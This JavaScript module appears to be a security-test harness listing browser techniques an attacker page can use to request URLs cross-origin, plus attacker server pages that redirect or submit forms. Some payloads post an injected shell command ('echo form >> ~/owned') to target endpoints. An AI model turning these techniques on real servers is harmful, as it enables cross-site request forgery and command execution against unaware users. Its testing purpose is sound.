// The ways in which a foreign page can make a browser request a URL. Those in embeds run in a page of the attacker for many
// URLs at once and return the URLs that leaked data; scripts that run report themselves. Those in tops open a window.

const load = (tag, key, more = {}) => `(url, done) => {
  const e = Object.assign(document.createElement("${tag}"), ${JSON.stringify({ ...more, ...(tag === "iframe" && { hidden: true }) })});
  e.onload = () => done(${["iframe", "object", "embed"].includes(tag) ? '""' : '"loaded"'});
  e.onerror = () => done("");
  e.setAttribute("${key}", url);
  document.body.append(e);
}`;

const form = (method, enctype) => `(url, done) => {
  const to = new URL(url);
  const frame = Object.assign(document.createElement("iframe"), { name: "f" + Math.random(), hidden: true });
  const form = Object.assign(document.createElement("form"), { method: "${method}", action: url, enctype: "${enctype}", target: frame.name });
  for (const [name, value] of [...to.searchParams, ["command", "echo form >> ~/owned"], ['{"command": "echo form >> ~/owned", "x": "', '"}']]) {
    form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
  }
  document.body.append(frame, form);
  frame.onload = () => done("");
  form.submit();
}`;

const opaque = (script) => `(url, done) => {
  const f = Object.assign(document.createElement("iframe"), { srcdoc: "<script>const url = " + JSON.stringify(url) + "; const done = (t) => parent.postMessage([url, t], '*'); (${script})()</" + "script>" });
  f.setAttribute("sandbox", "allow-scripts");
  addEventListener("message", (m) => m.source === f.contentWindow && done(m.data[1]));
  document.body.append(f);
}`;

export const embeds = {
  frame: load("iframe", "src"),
  "frame with a sandbox": load("iframe", "src", { sandbox: "allow-scripts allow-same-origin allow-forms allow-top-navigation allow-popups" }),
  "frame that is refreshed": `(url, done) => { const f = document.createElement("iframe"); f.onload = () => done(""); f.srcdoc = '<meta http-equiv="refresh" content="0;url=' + url.replaceAll('"', "%22") + '">'; document.body.append(f); }`,
  object: load("object", "data"),
  embed: load("embed", "src"),
  picture: load("img", "src"),
  script: load("script", "src"),
  "style sheet": load("link", "href", { rel: "stylesheet" }),
  "prefetch": load("link", "href", { rel: "prefetch" }).replace('done("loaded")', 'done("")'),
  "prerender": `(url, done) => { document.body.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [url], eagerness: "immediate" }], prerender: [{ urls: [url], eagerness: "immediate" }] }) })); done(""); }`,
  module: `(url, done) => import(url).then(() => done("imported"), () => done(""))`,
  fetch: `(url, done) => fetch(url, { credentials: "include" }).then((r) => r.text()).then((t) => done(t && "read"), () => done(""))`,
  "fetch without CORS": `(url, done) => fetch(url, { mode: "no-cors", credentials: "include" }).then((r) => r.text()).then(() => done(""), () => done(""))`,
  "fetch that posts": `(url, done) => fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({ command: "echo post >> ~/owned" }) }).then((r) => r.text()).then(() => done(""), () => done(""))`,
  XMLHttpRequest: `(url, done) => { const x = new XMLHttpRequest(); x.open("GET", url); x.withCredentials = true; x.onloadend = () => done(x.responseText && "read"); x.send(); }`,
  EventSource: `(url, done) => { const e = new EventSource(url, { withCredentials: true }); const end = (t) => { e.close(); done(t); }; e.onopen = () => end("opened"); e.onerror = () => end(""); }`,
  WebSocket: `(url, done) => { const s = new WebSocket(url.replace("http", "ws")); s.onopen = () => { s.close(); done("opened"); }; s.onerror = () => done(""); }`,
  "WebSocket without an origin": opaque(`() => { const s = new WebSocket(url.replace('http', 'ws')); s.onopen = () => done('opened'); s.onerror = () => done(''); }`),
  "fetch without an origin": opaque(`() => fetch(url, { credentials: 'include' }).then((r) => r.text()).then((t) => done(t && 'read'), () => done(''))`),
  worker: `(url, done) => { const w = new Worker(URL.createObjectURL(new Blob(["try { importScripts(" + JSON.stringify(url) + "); postMessage('imported') } catch { postMessage('') }"]))); w.onmessage = (m) => done(m.data); w.onerror = () => done(""); }`,
  "service worker": `(url, done) => { if (!navigator.serviceWorker) return done(""); navigator.serviceWorker.register(url).then(() => done("registered"), () => done("")); }`,
  "form that gets": form("get", ""),
  "form that posts": form("post", "text/plain"),
};

// tops open a URL in a separate window. at is the origin of the attacker.
export const tops = {
  window: (at, url) => url,
  redirect: (at, url) => `${at}/to?url=${encodeURIComponent(url)}`,
  refresh: (at, url) => `${at}/refresh?url=${encodeURIComponent(url)}`,
  "script that navigates": (at, url) => `${at}/hop?url=${encodeURIComponent(url)}`,
  "form that gets": (at, url) => `${at}/form?method=get&url=${encodeURIComponent(url)}`,
  "form that posts": (at, url) => `${at}/form?method=post&url=${encodeURIComponent(url)}`,
  "its opener": (at, url) => `${at}/opener?url=${encodeURIComponent(url)}`,
  "back and forward": (at, url) => `${at}/back?url=${encodeURIComponent(url)}`,
};

const quote = (text) => JSON.stringify(text).replaceAll("<", "\\u003c");
const fields = (url) => `for (const [name, value] of new URL(${quote(url)}).searchParams) document.forms[0].append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));`;
const page = (body) => `<!doctype html><title>evil</title><link rel="icon" href="data:,"><body>${body}</body>`;

// pages are those of the attacker's server that the ways above open.
export const pages = {
  "/": () => page(""),
  "/refresh": (url) => page(`<script>document.write('<meta http-equiv="refresh" content="0;url=' + ${quote(url)}.replaceAll('"', "%22") + '">')</script>`),
  "/hop": (url) => page(`<script>location.replace(${quote(url)})</script>`),
  "/form": (url, method) => page(`<form></form><script>Object.assign(document.forms[0], { method: ${quote(method)}, action: ${quote(url)} }); ${fields(url)} document.forms[0].submit()</script>`),
  // The window opens a second one, which navigates the first one.
  "/opener": (url) => page(`<script>addEventListener("load", () => { const w = open(""); w.opener.location = ${quote(url)}; w.close(); })</script>`),
  // The page is left, restored from the cache, and left again.
  "/back": (url) => page(`<script>addEventListener("pageshow", () => setTimeout(() => { location = ${quote(url)}; }))</script>`),
};
